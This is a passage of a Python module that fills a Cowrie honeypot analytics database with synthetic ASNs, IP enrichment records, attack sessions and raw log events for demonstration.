            foreign = 0.35 if asn.kind == "hosting" else 0.04
            if rng.random() < foreign:
                self.ip_country[idx] = rng.choices(countries, cum_weights=_COUNTRY_CUM)[0]
            else:
                self.ip_country[idx] = asn.country
            self.ip_v6[idx] = rng.random() < spec.ipv6_fraction

        self.ip_count = array("q", bytes(8 * ips))
        self.ip_first = array("q", [_WINDOW * 2]) * ips
        self.ip_last = array("q", [-1]) * ips
        self.cum_weights = list(
            itertools.accumulate(1.0 / (k + 1) ** _ZIPF_EXPONENT for k in range(ips))
        )
        if self.n_matched:
            stream = _AttackStream(spec.seed, ips, self.n_matched, self.cum_weights)
            count, first, last = self.ip_count, self.ip_first, self.ip_last
            left = self.n_matched
            while left:
                k = min(self.chunk_size, left)
                left -= k
                draws, starts, ends = stream.take(k)
                for ip, s, e in zip(draws, starts, ends, strict=True):
                    count[ip] += 1
                    if s < first[ip]:
                        first[ip] = s
                    if e > last[ip]:
                        last[ip] = e
        idle = random.Random(f"cowrie-demo/{spec.seed}/idle-ips")
        for idx in range(ips):
            if not self.ip_count[idx]:  # an IP seen only in a scan never summarised
                self.ip_first[idx] = int(idle.random() * _WINDOW)
                self.ip_last[idx] = self.ip_first[idx] + idle.randrange(_SECOND, 30 * _DAY)

    # -- ASNs ----------------------------------------------------------------------------

    def write_asns(self) -> None:
        n = len(self.asns)
        ips = array("q", bytes(8 * n))
        sessions = array("q", bytes(8 * n))
        first = array("q", [_WINDOW * 2]) * n
        last = array("q", [-_WINDOW]) * n
        for idx, a in enumerate(self.ip_asn):
            ips[a] += 1
            sessions[a] += self.ip_count[idx]
            first[a] = min(first[a], self.ip_first[idx])
            last[a] = max(last[a], self.ip_last[idx])
        fmt, rng = self.fmt, self.rng_asn
        rows: list[Row] = []
        for i, a in enumerate(self.asns):
            if not ips[i]:
                first[i] = int(rng.random() * _WINDOW)
                last[i] = first[i] + rng.randrange(_DAY, 60 * _DAY)
            enriched = last[i] + rng.randrange(_SECOND, 3 * _DAY)
            code, _name, _w, registry, _lat, _lon = _COUNTRIES[a.country]
            enrichment = {
                "source": "cymru",
                "asn": a.number,
                "description": a.name,
                "country": code,
                "registry": registry.lower(),
                "allocated": f"{rng.randrange(1996, 2024)}-{rng.randrange(1, 13):02d}-"
                f"{rng.randrange(1, 29):02d}",
                "prefix_count": rng.randrange(1, 4000),
            }
            rows.append(
                (
                    a.number,
                    a.name,
                    code,
                    registry,
                    a.kind,
                    fmt.ts(first[i]),
                    fmt.ts(last[i]),
                    ips[i],
                    sessions[i],
                    _json(enrichment),
                    fmt.ts(enriched),
                    fmt.ts(first[i]),
                    fmt.ts(enriched),
                )
            )
        with self.sink.chunk():
            if self.check["asn"]:  # an ASN that exists already is reused as it is
                taken = self.sink.existing("asn", [row[0] for row in rows])
                rows = [row for row in rows if row[0] not in taken]
            self.sink.write(_ASN_TABLE, rows)
        self.result.asns = len(rows)

    # -- IPs -----------------------------------------------------------------------------

    def _ip_string(self, idx: int) -> str:
        if self.ip_v6[idx]:
            return self.ip_stream.v6(_COUNTRIES[self.ip_country[idx]][3])
        return self.ip_stream.v4()

    def _fresh(self, kind: str, keys: list[str], regenerate: Callable[[int], str]) -> None:
        """Replace, in place, every key that already exists in the database."""
        if not self.check[kind]:
            return
        todo = list(range(len(keys)))
        while todo:
            taken = self.sink.existing(kind, [keys[i] for i in todo])
            todo = [i for i in todo if keys[i] in taken]
            for i in todo:
                keys[i] = regenerate(i)

    def write_ips(self) -> None:
        ips = self.spec.ips
        for lo in range(0, ips, self.chunk_size):
            hi = min(ips, lo + self.chunk_size)
            strings = [self._ip_string(idx) for idx in range(lo, hi)]

            def again(i: int, lo: int = lo) -> str:
                return self._ip_string(lo + i)

            with self.sink.chunk():
                self._fresh("ip", strings, again)
                rows = [
                    self._ip_row(idx, ip) for idx, ip in zip(range(lo, hi), strings, strict=True)
                ]
                self.sink.write(_IP_TABLE, rows)
            self.ip_strings.extend(strings)
        self.result.ips = ips
        # The IPs of the unmatched sessions: never in the inventory (same bijection,
        # later counters; and checked against rows that were already there).
        if self.n_unmatched:
            pool_size = max(1, math.ceil(self.n_unmatched / 4))
            rng = self.rng_unmatched

            def unmatched_ip(_i: int) -> str:
                if rng.random() < self.spec.ipv6_fraction:
                    registry = _COUNTRIES[
                        rng.choices(range(len(_COUNTRIES)), cum_weights=_COUNTRY_CUM)[0]
                    ][3]
                    return self.ip_stream.v6(registry)
                return self.ip_stream.v4()

            pool = [unmatched_ip(i) for i in range(pool_size)]
            with self.sink.chunk():
                self._fresh("ip", pool, unmatched_ip)
            self.unmatched_pool = pool

    def _ip_row(self, idx: int, ip: str) -> Row:
        fmt, r = self.fmt, self.rng_ip.random
        rng = self.rng_ip
        asn = self.asns[self.ip_asn[idx]]
        code, cname, _w, registry, lat, lon = _COUNTRIES[self.ip_country[idx]]
        asn_code = _COUNTRIES[asn.country][0]
        first, last, count = self.ip_first[idx], self.ip_last[idx], self.ip_count[idx]
        enriched: int | None = last + rng.randrange(_SECOND, 3 * _DAY)
        if r() < 0.005:
            enriched = None
        stamp = _cowrie_ts(enriched if enriched is not None else last)

        types = _ip_types(rng, asn.kind)
        enrichment: dict[str, object] = {}
        maxmind = {
            "country": code,
            "country_name": cname,
            "city": None if r() < 0.4 else f"{cname} City {rng.randrange(1, 40)}",
            "latitude": round(lat + rng.uniform(-3, 3), 4),
            "longitude": round(lon + rng.uniform(-3, 3), 4),
            "accuracy_radius": rng.choice((5, 20, 50, 100, 500, 1000)),
            "asn": asn.number,
            "asn_org": asn.name,
        }
        cymru = {
            "asn": asn.number,
            "asn_name": asn.name,
            "country": asn_code,
            "prefix": _prefix(ip),
            "registry": registry.lower(),
        }
        dshield = {
            "ip": {
                "asn": str(asn.number),
                "asname": asn.name,
                "ascountry": asn_code,
                "count": str(count),
                "attacks": str(count * rng.randrange(1, 6)),
                "network": _prefix(ip),
            }
        }
        roll = r()
        if roll < 0.90:  # MaxMind knows the country (most of the time the others too)
            enrichment["maxmind"] = maxmind
            if r() < 0.85:
                enrichment["cymru"] = cymru
            if r() < 0.7:
                enrichment["dshield"] = dshield
        elif roll < 0.95:  # no MaxMind record: Cymru's registration country
            enrichment["cymru"] = cymru
            if r() < 0.5:
                enrichment["dshield"] = dshield
        elif roll < 0.99:  # DShield only
            enrichment["dshield"] = dshield
        elif r() < 0.5:  # no country anywhere: geo_country becomes 'XX'
            enrichment["maxmind"] = {"country": None, "asn": asn.number, "asn_org": asn.name}
        if roll < 0.99 or r() < 0.5:
            if r() < 0.5:
                enrichment["spur"] = _spur(rng, asn, types)
            if r() < 0.65:
                noise = r() < 0.6
                enrichment["greynoise"] = {
                    "noise": noise,
                    "riot": False,
                    "classification": "malicious" if noise and r() < 0.7 else "unknown",
                    "last_seen": _day(last),
                }
            enrichment["validation"] = {
                "is_bogon": False,
                "is_private": False,
                "is_reserved": False,
                "checked_at": stamp,
            }
        greynoise = enrichment.get("greynoise")
        scanner = bool(isinstance(greynoise, dict) and greynoise["noise"])
        return (
            ip,
            asn.number,
            fmt.ts(enriched),
            fmt.ts(first),
            fmt.ts(last),
            count,
            _json(enrichment),
            fmt.ts(enriched),
            "2.2",
            fmt.ip_types(types),
            fmt.flag(scanner),
            fmt.false,
            fmt.ts(first),
            fmt.ts(enriched if enriched is not None else last),
        )

    # -- sessions and events -----------------------------------------------------------

    def _session_id(self, _i: int = 0) -> str:
        value = _mix48(self.sid_counter, *self.sid_keys)
        self.sid_counter += 1
        return f"{value:012x}"

    def write_sessions(self, on_progress: Callable[[int, int], None] | None) -> None:
        spec = self.spec
        total = spec.sessions
        stream = _AttackStream(spec.seed, spec.ips, max(self.n_matched, 1), self.cum_weights)
        unmatched_time = random.Random(f"cowrie-demo/{spec.seed}/unmatched-time")
        sel = self.rng_sel.random
        u_left, r_left = self.n_unmatched, self.n_raw_only
        done = 0
        while done < total:
            n = min(self.chunk_size, total - done)
            unmatched: list[bool] = []
            raw_only: list[bool] = []
            for i in range(done, done + n):
                remaining = total - i  # selection sampling: exact counts, random positions
                u = sel() * remaining < u_left
                u_left -= u
                ro = sel() * remaining < r_left
                r_left -= ro
                unmatched.append(u)
                raw_only.append(ro)
            n_un = sum(unmatched)
            m_ips, m_starts, m_ends = stream.take(n - n_un)
            u_starts, u_ends = _times(unmatched_time, n_un)
            u_ips = [
                self.unmatched_pool[
                    int(self.rng_unmatched.random() ** 1.5 * len(self.unmatched_pool))
                ]
                for _ in range(n_un)
            ]
            ids = [self._session_id() for _ in range(n)]
            sessions: list[Row] = []
            events: list[Row] = []
            mi = ui = 0
            with self.sink.chunk():
                self._fresh("session", ids, self._session_id)
                for k in range(n):
                    if unmatched[k]:
                        ip_idx, ip = -1, u_ips[ui]
                        start, end = u_starts[ui], u_ends[ui]
                        ui += 1
                    else:
                        ip_idx = m_ips[mi]
                        ip, start, end = self.ip_strings[ip_idx], m_starts[mi], m_ends[mi]
                        mi += 1
                    sessions.append(
                        self._session_row(ids[k], ip, ip_idx, start, end, raw_only[k], events)
                    )
                self.sink.write(_SESSION_TABLE, sessions)
                self.sink.write(_EVENT_TABLE, events)
            done += n
            self.result.sessions = done
            self.result.unmatched_sessions += n_un
            self.result.raw_only_sessions += sum(raw_only)
            self.result.raw_events += len(events)
            if on_progress is not None:
                on_progress(done, total)

    def _session_row(
        self,
        sid: str,
        ip: str,
        ip_idx: int,
        start: int,
        end: int,
        raw_only: bool,
        events: list[Row],
    ) -> Row:
        fmt, rng = self.fmt, self.rng_sess
        r = rng.random
        kind = r()
        commands = downloads = keys = 0
        if kind < 0.42:  # scanner: connects, maybe one login, leaves
            logins = 0 if r() < 0.6 else 1
        elif kind < 0.80:  # password brute force
            logins = 1 + int(rng.expovariate(0.25))
        elif kind < 0.985:  # bot that gets a shell
            logins = 1 + int(rng.expovariate(0.7))
            commands = 1 + int(rng.expovariate(0.1))
            downloads = rng.randint(1, 3) if r() < 0.3 else 0
            keys = 1 if r() < 0.12 else 0
        else:  # long interactive session
            logins = rng.randint(1, 5)
            commands = rng.randint(20, 300)
            downloads = rng.randint(0, 8)
            keys = 1 if r() < 0.3 else 0
        event_count = 3 + logins + commands + 2 * downloads + keys + (r() < 0.5)
        vt = downloads > 0 and r() < 0.25
        dshield_flagged = r() < 0.3
        risk: int | None = min(
            100, 5 + 2 * logins + 3 * commands + 15 * downloads + 20 * keys + 25 * vt
        )
        if r() < 0.02:
            risk = None
        telnet = r() < 0.15
        protocol = "telnet" if telnet else "ssh"
        sensor = rng.choice(_SENSORS)
        client = None if telnet else rng.choice(_SSH_CLIENTS)
        files = [f"/var/log/cowrie/cowrie.json.{_day(start)}"]
        if _day(end) != _day(start):
            files.append(f"/var/log/cowrie/cowrie.json.{_day(end)}")

        metadata: dict[str, object] = {
            "source_ip": ip,
            "sensor": sensor,
            "protocol": protocol,
        }
        if client is not None:
            metadata["client_version"] = client
        enrichment: dict[str, object] | None = {"session_metadata": metadata}
        if ip_idx >= 0:
            asn = self.asns[self.ip_asn[ip_idx]]
            asn_code = _COUNTRIES[asn.country][0]
            enrichment["dshield"] = {
                "ip": {
                    "asn": str(asn.number),
                    "asname": asn.name,
                    "ascountry": asn_code,
                    "count": str(self.ip_count[ip_idx]),
                    "attacks": str(self.ip_count[ip_idx] * 3),
                }
            }
        else:
            enrichment["dshield"] = {"error": rng.choice(_DSHIELD_ERRORS)}
        if r() < 0.2:
            enrichment["urlhaus"] = "" if r() < 0.8 else "malware_download,elf"
        if raw_only:  # the canonical IP is known only from raw_events
            variant = r()
            if variant < 0.25:
                enrichment = None
            elif variant < 0.5:
                enrichment = {}
            elif variant < 0.75:
                enrichment = {"session_metadata": {}}
            else:
                del metadata["source_ip"]
        enrichment_text = None if enrichment is None else _json(enrichment)

        n_events = 0
        if raw_only:
            n_events = rng.randint(1, 4)
        elif r() < 0.05:
            n_events = rng.randint(1, 3)
        if n_events:
            self._events(sid, ip, start, end, n_events, sensor, protocol, client, events)
        event_count = max(event_count, n_events)

        created = end + rng.randrange(_SECOND, 2 * 3600 * _SECOND)
        return (
            sid,
            fmt.ts(start),
            fmt.ts(end),
            event_count,
            commands,
            downloads,
            logins,
            keys * rng.randint(1, 2),
            keys,
            fmt.flag(vt),
            fmt.flag(dshield_flagged),
            risk,
            protocol,
            _json(files),
            enrichment_text,
            fmt.ts(created),
            fmt.ts(created),
        )

    def _events(
        self,
        sid: str,
        ip: str,
        start: int,
        end: int,
        n: int,
        sensor: str,
        protocol: str,
        client: str | None,
        out: list[Row],
    ) -> None:
        fmt, rng = self.fmt, self.rng_sess
        span = max(end - start, 1_000 * n)
        times = [start] + [
            start + (span * k) // n + int(rng.random() * (span // (2 * n))) for k in range(1, n)
        ]
        kinds = ["cowrie.session.connect"]
        if n >= 2:
            kinds += [rng.choice(_MIDDLE_EVENTS) for _ in range(n - 2)]
            kinds.append("cowrie.session.closed")
        rows: list[Row] = []
        for kind, at in zip(kinds, times, strict=True):
            stamp = _cowrie_ts(at)
            payload: dict[str, object] = {
                "eventid": kind,
                "session": sid,
                "src_ip": ip,
                "sensor": sensor,
                "timestamp": stamp,
            }
            if kind == "cowrie.session.connect":
                port = 22 if protocol == "ssh" else 23
                src_port = rng.randrange(1024, 65536)
                payload |= {
                    "src_port": src_port,
                    "dst_ip": "10.0.0.4",
                    "dst_port": port,
                    "protocol": protocol,
                    "message": f"New connection: {ip}:{src_port} (10.0.0.4:{port}) "
                    f"[session: {sid}]",
                }
            elif kind == "cowrie.client.version":
                payload |= {
                    "version": client or "SSH-2.0-Go",
                    "message": f"Remote SSH version: {client or 'SSH-2.0-Go'}",
                }
            elif kind == "cowrie.client.kex":
                payload |= {
                    "hassh": f"{rng.getrandbits(128):032x}",
                    "message": "SSH client hassh fingerprint",
                }
            elif kind in ("cowrie.login.failed", "cowrie.login.success"):
                user, password = rng.choice(_USERNAMES), rng.choice(_PASSWORDS)
                outcome = "failed" if kind.endswith("failed") else "succeeded"
                payload |= {
                    "username": user,
                    "password": password,
                    "message": f"login attempt [{user}/{password}] {outcome}",
                }
            elif kind == "cowrie.command.input":
                command = rng.choice(_COMMANDS)
                payload |= {"input": command, "message": f"CMD: {command}"}
            else:
                duration = round((at - start) / _SECOND, 1)
                payload |= {
                    "duration": duration,
                    "message": f"Connection lost after {duration} seconds",
                }
            text = _json_sorted(payload)
            day = _day(at)
            source = f"/var/log/cowrie/cowrie.json.{day}"
            offset = self.file_offsets.get(source, 0)
            self.file_offsets[source] = offset + len(text) + 1
            day_start = (at // _DAY) * _DAY
            rows.append(
                (
                    f"{day}-{self.ingest_tag}",
                    fmt.ts(day_start + _DAY + 300 * _SECOND),
                    source,
                    offset,
                    text,
                    hashlib.sha256(text.encode()).hexdigest(),
                    sid,
                    kind,
                    fmt.ts(at),
                )
            )
        if n >= 2 and rng.random() < 0.1:
            rng.shuffle(rows)  # ingested out of order: ids do not follow the timestamps
        out.extend(rows)


def _prefix(ip: str) -> str:
    if ":" in ip:
        return str(ipaddress.IPv6Network(f"{ip}/32", strict=False))
    a, b, _c, _d = ip.split(".")
    return f"{a}.{b}.0.0/16"


def _ip_types(rng: random.Random, kind: str) -> list[str]:
    r = rng.random
    if r() < 0.15:
        return []
    found: set[str] = set()
    if kind == "hosting":
        if r() < 0.8:
            found.add("DATACENTER")
        if r() < 0.12:
            found.add("VPN")
        if r() < 0.06:
            found.add("PROXY")
        if r() < 0.02:
            found.add("TOR")
    elif kind == "isp":
        if r() < 0.7:
            found.add("RESIDENTIAL")
        if r() < 0.05:
            found.add("PROXY")
    elif kind == "mobile":
        if r() < 0.75:
            found.add("MOBILE")
        if r() < 0.03:
            found.add("PROXY")
    else:
        if r() < 0.2:
            found.add("DATACENTER")
        elif r() < 0.2:
            found.add("RESIDENTIAL")
    return [t for t in _IP_TYPE_ORDER if t in found]


def _spur(rng: random.Random, asn: _Asn, types: list[str]) -> dict[str, object]:
    infrastructure = next((t for t in types if t in ("DATACENTER", "RESIDENTIAL", "MOBILE")), None)
    tunnels = [
        {
            "type": t,
            "operator": rng.choice(("NordVPN", "Mullvad", "ExpressVPN", "unknown"))
            if t == "VPN"
            else None,
            "anonymous": True,
        }
        for t in types
        if t in ("VPN", "TOR", "PROXY")
    ]
    spur: dict[str, object] = {
        "as": {"number": asn.number, "organization": asn.name},
        "infrastructure": infrastructure,
        "tunnels": tunnels,
        "risks": ["CALLBACK_PROXY"] if "PROXY" in types else [],
    }
    return spur


def _any_rows(conn: Connection) -> tuple[int, bool, bool]:
    sessions = int(conn.execute(sa.text(_ANY_ROW_SQL["session"])).scalar_one())
    ips = conn.execute(sa.text(_ANY_ROW_SQL["ip"])).first() is not None
    asns = conn.execute(sa.text(_ANY_ROW_SQL["asn"])).first() is not None
    return sessions, ips, asns


def generate(
    engine: Engine,
    spec: DemoSpec,
    *,
    force: bool = False,
    chunk_size: int = 20_000,
    on_progress: Callable[[int, int], None] | None = None,
) -> DemoResult:
    """Write ``spec`` worth of synthetic data into ``engine``'s database (see the module doc).

    Refuses (:class:`DemoDataError`) a database below revision ``0002_snapshot_columns``
    and, unless ``force``, one whose ``session_summaries`` already has rows. With
    ``force`` the rows are added on top: nothing existing is changed, and any generated
    session id, IP or ASN number that already exists is skipped deterministically.
    ``on_progress(done_sessions, total_sessions)`` is called after each chunk.
    """
    started = time.perf_counter()
    _validate(spec, chunk_size)
    dialect = engine.dialect.name
    if dialect not in ("postgresql", "sqlite"):
        raise DemoDataError(f"unsupported database dialect {dialect!r}: PostgreSQL or SQLite")
    _check_schema(engine)
    with engine.connect() as conn:
        if dialect == "sqlite":
            conn = conn.execution_options(sqlite_begin="IMMEDIATE")
        with conn.begin():
            existing_sessions, existing_ips, existing_asns = _any_rows(conn)
        if existing_sessions and not force:
            raise DemoDataError(
                f"session_summaries already holds {existing_sessions:,} rows: demo data "
                "goes into an empty database (pass force=True / --force to add on top)"
            )
        check = {"session": existing_sessions > 0, "ip": existing_ips, "asn": existing_asns}
        outer: AbstractContextManager[object] = (
            conn.begin() if dialect == "postgresql" else nullcontext()
        )
        with outer:
            generator = _Generator(spec, _Sink(conn, dialect), _Format(dialect), chunk_size, check)
            generator.plan()
            generator.write_asns()
            generator.write_ips()
            generator.write_sessions(on_progress)
    result = generator.result
    result.seconds = time.perf_counter() - started
    return result
